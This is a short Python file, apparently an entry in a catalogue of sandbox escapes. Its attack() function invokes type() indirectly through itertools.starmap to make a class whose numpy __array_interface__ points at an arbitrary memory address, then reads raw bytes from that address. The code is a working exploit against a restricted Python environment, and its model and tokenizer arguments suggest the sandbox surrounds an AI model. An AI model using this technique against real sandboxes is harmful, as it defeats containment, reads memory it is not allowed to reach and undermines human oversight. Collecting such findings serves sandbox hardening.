"""Class: class machinery. Source: own find. Escape: itertools.starmap(type, ...) makes a class."""

import itertools
import numpy as np


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    (made,) = itertools.starmap(type, [("Lie", (), {"__array_interface__": interface})])
    return np.array(made()).tobytes()
